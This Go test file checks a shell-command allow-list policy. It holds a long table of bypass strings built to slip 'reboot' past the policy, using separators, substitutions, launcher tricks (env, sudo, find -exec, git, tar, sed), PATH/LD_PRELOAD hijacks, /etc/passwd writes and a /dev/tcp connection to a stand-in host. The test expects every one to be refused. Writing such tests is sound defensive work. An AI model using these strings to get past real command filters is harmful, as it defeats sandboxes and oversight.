package policy

import (
	"strings"
	"testing"
)

// bypassRules is an allow list as people write them: a few programs that read, and launchers that they need.
var bypassRules = Rules{CommandAllowlist: []string{
	`^(ls|cat|grep|wc|sort|echo|head|tail|df|uptime|date|test|printf|cd|git|tar|sed|systemctl|docker|ip|kubectl|rpm|dpkg)\b`,
	`^\[ `, `^find\b`, `^xargs\b`, `^env\b`, `^timeout\b`, `^nohup\b`, `^nice\b`, `^sudo -n\b`, `^sh -c\b`, `^bash -c\b`, `^time\b`, `^eval\b`,
	`^exec\b`, `^command\b`, `^trap\b`, `^python3 /opt/app/report\.py$`, `^awk\b`, `^vi\b`, `^less\b`, `^ssh\b`, `^su\b`, `^perl\b`, `^busybox\b`,
	`^setsid\b`, `^stdbuf\b`, `^read\b`, `^export\b`, `^alias\b`, `^source\b`, `^\. `, `^set\b`, `^unset\b`, `^chroot\b`, `^watch\b`, `^script\b`,
	`^flock\b`, `^strace\b`, `^gdb\b`, `^make\b`, `^rsync\b`, `^rm -f /tmp/\S+$`, `^/usr/local/bin/`,
}}

// bypasses are attempts to run reboot, which bypassRules do not admit.
var bypasses = []string{
	// separators
	"reboot", "ls;reboot", "ls ; reboot", "ls&reboot", "ls & reboot", "ls&&reboot", "ls||reboot", "ls|reboot", "ls |& reboot", "ls\nreboot", "ls\n\nreboot\n",
	"ls;;reboot", "ls\treboot;reboot", "ls;\\\nreboot", "ls \\\n; reboot", "! reboot", "ls;!reboot", "ls&\nreboot", "ls # x\nreboot", "#\nreboot", ";reboot", "&reboot",
	"ls|ls|reboot", "ls && ls || reboot", "ls\r\nreboot", "ls\rreboot", "ls\vreboot;reboot", "ls\f;reboot",
	// groups and control words
	"(reboot)", "{ reboot; }", "((reboot))", "( (reboot) )", "ls; (ls; reboot)", "if reboot; then ls; fi", "if ls; then reboot; fi",
	"if ls; then ls; else reboot; fi", "if ls; then ls; elif reboot; then ls; fi", "while reboot; do ls; done", "while ls; do reboot; done", "until reboot; do ls; done",
	"for i in a; do reboot; done", "for i in $(reboot); do ls; done", "for i; do reboot; done", "for ((;;)); do reboot; done", "select x in a; do reboot; done",
	"case a in a) reboot;; esac", "case $(reboot) in a) ls;; esac", "case a in $(reboot)) ls;; esac", "case a in b) ls;; *) reboot; esac", "case a in a) ls;& b) reboot;; esac",
	"time reboot", "time -p reboot", "time (reboot)", "coproc reboot", "[[ -n $(reboot) ]]", "[[ a[$(reboot)] -eq 1 ]]", "let 'a[$(reboot)]=1'", "(( a[$(reboot)] ))",
	"ls() { reboot; }; ls", "function ls { reboot; }; ls", "ls() { reboot; }\nls", "ls () (reboot); ls",
	// substitutions
	"ls $(reboot)", "ls `reboot`", `ls "$(reboot)"`, "ls \"`reboot`\"", "ls $(ls; reboot)", "ls $(ls $(reboot))", `ls "a$(ls "$(reboot)")b"`, "ls ${x:-$(reboot)}",
	`ls "${x:-$(reboot)}"`, `ls "${x-'$(reboot)'}"`, `ls "${x:-"$(reboot)"}"`, "ls ${x:=$(reboot)}", "ls ${x:+$(reboot)}", "ls ${x#$(reboot)}", "ls ${x/a/$(reboot)}",
	"ls ${x:$(reboot)}", "ls ${x[$(reboot)]}", "ls ${!x}", "ls ${x@P}", "ls $((1+$(reboot)))", "ls $((a[$(reboot)]))", "ls $[ $(reboot) ]", "ls <(reboot)", "ls >(reboot)",
	"cat < <(reboot)", "ls ${ reboot; }", "ls ${|reboot; }", "ls $(<x;reboot)", "ls $(\nreboot\n)", "ls $( (reboot) )", "ls \\\\$(reboot)", `ls "\\$(reboot)"`,
	`ls 'a'$(reboot)'b'`, `echo "$(echo ")"; reboot)"`, "echo $(case a in a) reboot;; esac)", "$(reboot)", "`reboot`", "$(echo reboot)", "`echo reboot`", "x=$(reboot)", "x=`reboot` ls",
	"x=1 y=$(reboot) ls", "ls ~$(reboot)", "ls a[$(reboot)]b",
	// lines that a backslash joins
	"echo \"$\\\n(reboot)\"", "echo \"a$\\\n{x:-$(reboot)}\"", "cat <<EOF\n$\\\n(reboot)\nEOF", "ls # x \\\nreboot", "ls #\\\nreboot", "# \\\nreboot", "sh -c 'ls # x \\\nreboot'", "ls \"$(ls # x \\\nreboot\n)\"",
	"sh -c 'echo \"$\\\n(reboot)\"'", "ls &\\\n& reboot", "ls $\\\n(reboot)", "ls $(\\\nreboot)", "ls \\\\\nreboot", "cat <<\\\nEOF\n$(reboot)\nEOF",
	// here-documents
	"cat <<EOF\n$(reboot)\nEOF", "cat <<EOF\n`reboot`\nEOF", "cat <<-EOF\n\t$(reboot)\n\tEOF", "cat <<EOF\nEOF\nreboot", "cat <<'EOF'\nEOF\nreboot",
	"cat <<EOF\n${x:-$(reboot)}\nEOF", "cat <<<$(reboot)", "cat <<\\EOF\nx\nEOF\nreboot", "cat <<EOF; reboot\nEOF", "cat <<\"E F\"\nE F\nreboot", "cat <<EOF\n\\\\$(reboot)\nEOF",
	"cat <<A <<B\n$(reboot)\nA\nB", "cat <<EOF | sh -c reboot\nEOF",
	// names that a shell makes
	`r"eboo"t`, `'reboot'`, `"reboot"`, `re\boot`, "re\\\nboot", `$'reboot'`, `$'\x72eboot'`, `$"reboot"`, "$x", "${x:-reboot}", "r${x}eboot", "{reboot,}", "{r,}eboot",
	"/sbin/reboo?", "/sbin/reb*", "/sbin/r[e]boot", "~/reboot", "~root/reboot", "=reboot", `\reboot`, "/sbin/reboot", "./reboot", "//sbin//reboot", "ls/../reboot", "/usr/local/bin/../../../sbin/reboot",
	"ls-reboot", "git-reboot", "cat.reboot", "ls/reboot", `ls\ reboot`, `"ls reboot"`, "ls@reboot", "lsreboot", `""reboot`, `''`, "LS", "+ls;reboot", "1>&2 reboot", "2>/dev/null reboot", "</dev/null reboot",
	// variables
	"PATH=/tmp ls", "LD_PRELOAD=/tmp/x.so ls", "LD_LIBRARY_PATH=/tmp ls", "IFS=/ ls", "BASH_ENV=/tmp/x bash -c ls", "ENV=/tmp/x sh -c ls", "PS4='$(reboot)' ls", "GIT_SSH_COMMAND=reboot git status",
	"PAGER=reboot git log", "GIT_EXTERNAL_DIFF=reboot git diff", "LESSOPEN='|reboot' ls", "PROMPT_COMMAND=reboot ls", "SHELLOPTS=xtrace ls", "PATH=/tmp; ls", "IFS=x; ls", "path=/tmp; ls",
	"for PATH in /tmp; do ls; done", "for path in /tmp; do ls; done", "export PATH=/tmp; ls", "read PATH; ls", "readonly PATH=/tmp", "unset PATH", "printf -v PATH /tmp; ls", "printf -vPATH /tmp",
	"LANG=$(reboot) ls", "LANG=a/b ls", "x+=1 ls", "x[0]=1 ls", "x=(a) ls", "a[$(reboot)]=1", "http_proxy=evil; ls", "declare -x PATH=/tmp", "typeset PATH=/tmp", "local PATH=/tmp", `X='a[$(reboot)]'; [ -v X ]`,
	`test -v 'a[$(reboot)]'`, `[ -v 'a[$(reboot)]' ]`, `[ $x ]`, `x='a[$(reboot)]'; ls`,
	// words of the shell
	"eval reboot", "eval 'ls; reboot'", `eval "re""boot"`, "eval $x", `eval ls \; reboot`, "exec reboot", "exec -a ls reboot", "exec -c reboot", "command reboot", "command -p reboot", "builtin eval reboot",
	"command eval reboot", "trap reboot EXIT", "trap 'ls; reboot' EXIT", "trap -- reboot EXIT", "trap $x EXIT", "alias ls=reboot", "alias ls=reboot\nls", ". /tmp/x", "source /tmp/x", "set -o xtrace", "enable -f /tmp/x.so ls",
	"hash -p /sbin/reboot ls", "fc -s reboot", "bind -x '\"a\":reboot'", "complete -C reboot ls", "mapfile -C reboot x", "[ $(reboot) ]",
	// launchers
	"env reboot", "env -i reboot", "env A=1 reboot", "env LANG=C reboot", "env -S 'ls; reboot'", "env -Sreboot", "env --split-string=reboot", "env PATH=/tmp ls", "env -C / reboot", "env -u X reboot", "env -- reboot", "env $x",
	"env env reboot", "env sh -c reboot", "env LD_PRELOAD=x ls", "timeout 5 reboot", "timeout 5 sh -c reboot", "timeout -s KILL 5 reboot", "nohup reboot", "nohup sh -c 'reboot'", "nice reboot", "nice -n 5 reboot", "nice -5 reboot",
	"setsid reboot", "stdbuf -o0 reboot", "stdbuf -o 0 reboot", "sudo -n reboot", "sudo -n -u root reboot", "sudo -n -i", "sudo -n -s reboot", "sudo -n -e /etc/x", "sudo -n PATH=/tmp ls", "sudo -n -- reboot", "su -c reboot", "su",
	"sh -c reboot", "sh -c 'ls; reboot'", `sh -c "reboot"`, "sh -c $x", "sh -c 'sh -c reboot'", `bash -c "bash -c 'bash -c reboot'"`, "bash -c 'ls $(reboot)'", "sh -c -- reboot", "sh /tmp/x", "sh", "ls | sh", "bash -i", "bash --rcfile /tmp/x",
	"bash -c", "sh -c 're'boot", "sh -s", "busybox reboot", "busybox sh -c reboot", "chroot / reboot", "watch reboot", "script -c reboot", "flock /tmp/x reboot", "strace reboot", "gdb -ex '!reboot'", "make -f /tmp/x",
	"xargs reboot", "ls | xargs reboot", "xargs -n1 reboot", "xargs -I{} reboot {}", "xargs sh -c reboot", "xargs sh -c", "xargs env", "xargs -I{} sh -c {}", "xargs -I % %", "xargs find . -name", "xargs $x", "xargs -a /tmp/x reboot", "xargs --arg-file=x reboot",
	"find . -exec reboot ;", `find . -exec reboot \;`, "find . -exec reboot {} +", "find . -execdir reboot ';'", "find . -ok reboot ';'", "find . -okdir reboot ';'", `find . -exec sh -c reboot \;`, `find . -exec {} \;`, `find . -exec sh -c {} \;`,
	`find . "-exec" reboot \;`, `find . -ex\ec reboot \;`, `find . '-exec' reboot ';'`, "find . $x", "find . -name x -delete", "find . -fprintf /tmp/x reboot", "find . -fls /tmp/x", `find . -exec ls \; -exec reboot \;`, "find * -name x", "find . -e$x",
	`find . -exec env reboot \;`, "find . -files0-from x", `find . -exec ls`, "find .$IFS-exec$IFS-reboot",
	"git -c core.pager=reboot log", "git -c alias.x='!reboot' x", "git --exec-path=/tmp status", "git x", "git --config-env=a=b log", "git rebase --exec reboot", "git clone ext::reboot", "git bisect run reboot", "git diff --ext-diff", "git diff --ext", "git log --output=/tmp/x", "git $x",
	"tar cf x --checkpoint=1 --checkpoint-action=exec=reboot .", "tar xf x --to-command=reboot", "tar xf x --to-com=reboot", "tar -I reboot -xf x", "tar --use-compress-program=reboot -xf x", "tar -Ireboot -xf x", "tar cIf reboot x .", "tar cf x *", "tar xf host:x", "tar -F reboot -cf x .", "tar cf x -T list", "tar cf x $x",
	"sed e", "sed '1e reboot'", "sed 's/x/reboot/e'", "sed -n '1w /tmp/x' y", "sed 's/a/b/w /tmp/x'", "sed -f /tmp/x y", "sed -e 1p -e '1e reboot'", "sed '1p;e reboot'", "sed -i 1d x", "sed $x", "sed -n -ee", "sed --expression=e",
	"awk 'BEGIN{system(\"reboot\")}'", "perl -e 'system reboot'", "python3 -c reboot", "python3 /opt/app/report.py; reboot", "python3 /opt/app/report.py x", "python3 /opt/app/reportXpy", "vi -c '!reboot'", "less x", "ssh localhost reboot", "rsync -e reboot a b:", "sort --compress-program=reboot x", "sort --comp=reboot x",
	"docker exec x reboot", "docker run x", "docker -H tcp://x ps", "systemctl edit ls", "systemctl link /tmp/x.service", "systemctl start /tmp/x.service", "ip netns exec x reboot", "ip net e x reboot", "ip vrf exec x reboot", "ip -b /tmp/x", "ip -batch /tmp/x",
	// redirections
	"ls > /etc/passwd", "ls >/etc/passwd", "ls >> ~/.bashrc", "ls 2> x", "ls >| x", "ls <> x", "ls &> x", "ls >& x", "ls < /etc/shadow", "> /etc/passwd", "ls > $x", "ls > /dev/../etc/passwd", "ls {fd}> x", "ls 10>/dev/null", "{ ls; } > x", "(ls) > x", "while ls; do ls; done > x",
	"if ls; then ls; fi 2> x", "exec > /tmp/x", "exec 3<> /dev/tcp/evil/80", "cat < /dev/tcp/evil/80", "ls 2>&$x", "ls >&$(reboot)", "ls > $(reboot)", "ls > `reboot`", "ls <<< x", "ls > 'x' > y", "ls >/dev/null > x",
	// arguments that become more arguments
	"rm -f /tmp/a$IFS/etc/passwd", "rm -f /tmp/$x", "rm -f /tmp/{a,/../etc/passwd}", "rm -f /tmp/a$(echo)", "rm -f /tmp/a /etc/passwd", "rm -f /tmp/a\t/etc/passwd", "rm -f /tmp/x;reboot", "rm -f /tmp/x\n/etc/passwd", `rm -f /tmp/x\ /etc/passwd`, `rm -f "/tmp/x /etc"`,
	// encodings
	"ls\x00reboot", "ls\x00;reboot", "ls \xff;reboot", "l\xc0\xb3;reboot", "ls\u00a0reboot", "ls\u2028reboot", "ls\u2003x", "ls \u202ereboot", "l\u200bs", "ls\u0085reboot", "ls\x1b[A;reboot", "ls\x7f", "\ufeffls", "ls\x08\x08reboot", "ｌｓ", "ls；reboot;reboot", "lѕ", "ls \ufffd",
	// what cannot be read
	"ls 'a", `ls "a`, "ls $(", "ls `", "ls (", "ls )", "ls {", "ls }; reboot", "ls \\", "if", "ls |", "ls &&", "case", "ls $((", "ls ${", "", " ", "\n", "# reboot", "ls 'a\\'' ; reboot '", `ls "a\"; reboot \"b"`, "ls {a,b}",
	strings.Repeat("(", 16000), strings.Repeat("$(", 8000), strings.Repeat("if ", 5000), strings.Repeat("{ ", 8000), strings.Repeat("! ", 8000), strings.Repeat("${x:-", 2700), strings.Repeat("\"$(", 5000),
	strings.Repeat("case x in x) ", 1200), strings.Repeat("$((", 5000), strings.Repeat("`\\", 5000), strings.Repeat("(", 6000) + "reboot" + strings.Repeat(")", 6000), strings.Repeat("ls|", 5000) + "reboot", strings.Repeat("a && ", 3000) + "reboot",
	`sh -c 'rm -f /tmp/"$@"' x /etc /etc`, `rm -f /tmp/"$@"`, `rm -f /tmp/"${@}"`, `rm -f /tmp/"${x-$@}"`, `tar cf "x$y" .`, "kubectl --kubeconfig /tmp/x get pods", "kubectl get pods --kubeconfig=/tmp/x", "rpm -i x.rpm", "rpm -q --pipe reboot", "rpm --eval '%(reboot)'",
	strings.Repeat("(", 20000), strings.Repeat("$(", 9000), strings.Repeat("ls;", 9000) + "reboot", strings.Repeat("eval ", 20) + "ls",
}

func TestBypasses(t *testing.T) {
	p := compile(t, bypassRules)
	seen := map[string]bool{}
	for _, command := range bypasses {
		if seen[command] {
			t.Errorf("%q stands twice in the table", command)
		}
		seen[command] = true
		if got := p.Decide(exec(command)); got.Allowed || got.Rule != "command_allowlist" || got.Reason == "" {
			t.Errorf("%q: %+v, want refused by the allow list", command, got)
		}
	}
	t.Logf("%d attempts", len(bypasses))
	if len(bypasses) < 150 {
		t.Errorf("%d attempts, want at least 150", len(bypasses))
	}
}

// everyday are commands that the rules must not stand in the way of.
var everyday = []string{
	"ls", "ls -la", "ls -la /tmp", "ls -la | wc -l", "ls *.log", "ls $HOME", `ls "$HOME/x y"`, "ls 'it is'", `ls "it's"`, "ls a\\ b", "ls ~", "ls ~/x", "ls [ab]* ?x", "/usr/local/bin/app --status",
	"cat /etc/hosts | grep -v '^#' | sort | head -n 5", "grep -rn 'a;b|c&d' /etc", `grep -c "a|b" x`, "grep -E '(a|b)+$' x | wc -l", "ls 2>/dev/null", "ls >/dev/null 2>&1", "ls 2>&1 | grep x", "cat </dev/null",
	"df -h; uptime", "df -h && uptime || date", "uptime & date", "cd /var/log && ls -lt | head", "(cd /tmp; ls)", "{ ls; df; }", "! grep -q x y", "if grep -q x y; then echo yes; else echo no; fi",
	`for f in *.log; do wc -l "$f"; done`, "for i in 1 2 3; do echo $i; done", "while grep -q x y; do date; done", "case $x in a) ls;; *) df;; esac", "case a in a|b) ls ;; esac", "x=1; echo $x", `dir=/tmp; ls "$dir"`,
	"echo $(date)", `echo "now: $(date) on $(uptime)"`, "echo $(ls | wc -l)", `echo "${x:-none}"`, "echo ${#x} ${x%.log} ${x##*/}", "LANG=C ls", "LC_ALL=C sort x", "TZ=UTC date", "cat <<EOF\nhello $x\nEOF", "cat <<'EOF'\n$(reboot)\nEOF",
	"cat <<EOF | grep a\n$(date)\nEOF", "ls # a comment; reboot", "ls \\\n  -la", "ls\ndf\n", "echo 'reboot; `reboot` $(reboot)'", `echo "\$(reboot)"`, `echo "{\"a\":1}"`, `echo '{"a": [1, 2]}'`, "echo größe", "'ls' -l", `"ls" -l`, `\ls -l`,
	"env", "env ls", "env LANG=C ls -l", "env -u X ls", "timeout 5 ls", "timeout -s KILL 5 grep x y", "nohup ls", "nice -n 10 ls", "sudo -n ls", "sudo -n -u www ls", "sh -c 'ls; df'", `bash -c "ls | wc -l"`, "time ls", "time -p ls", "eval 'ls -l'", "exec ls",
	"command ls", "command -v ls", "stdbuf -oL grep x y", "setsid ls", "busybox ls", "trap 'echo bye' EXIT", "trap - INT", "xargs ls", "ls | xargs grep x", "ls | xargs -n1 -P4 wc -l", "ls | xargs -I{} grep x {}", "find . -name '*.log' -mtime +3",
	`find . -name x -exec ls -l {} \;`, "find . -type f -exec grep -l x {} +", "find /var -print0 | xargs -0 ls", "find /var/log -name x | head", `find . -exec sh -c 'ls' \;`, `find . \( -name a -o -name b \) -print`,
	"git status", "git log --oneline -5", "git -C /srv/app diff HEAD~1", "git --no-pager show HEAD:x", "tar tzf x.tgz", "tar czf x.tgz /etc/hosts", "tar -czf x.tgz logs/*.log", "tar -xzf x.tgz -C /tmp", "sed -n 5p x", "sed -n '1,5p' x", "sed 's/a/b/g' x", "sed -e 's|a|b|' -e 2d x",
	"systemctl status nginx", "systemctl restart nginx.service", "docker ps -a", "docker logs --tail 5 app", "ip addr", "ip -br link show", "printf '%s\\n' a b", "test -f x && ls", "[ -d /tmp ] && ls", "python3 /opt/app/report.py", "rm -f /tmp/x.lock", "sort -u x", "date +%s",
	"date -u '+%Y-%m-%d %H:%M'", "tail -n 100 /var/log/syslog | grep -i error | sort | head -20", "echo a >&2", "kubectl get pods -n x", "rpm -qi bash", "dpkg -l bash", "ls 3>&1", "ls 2>&-",
}

func TestEverydayCommands(t *testing.T) {
	p := compile(t, bypassRules)
	for _, command := range everyday {
		if got := p.Decide(exec(command)); !got.Allowed {
			t.Errorf("%q: %+v, want admitted", command, got)
		}
	}
}
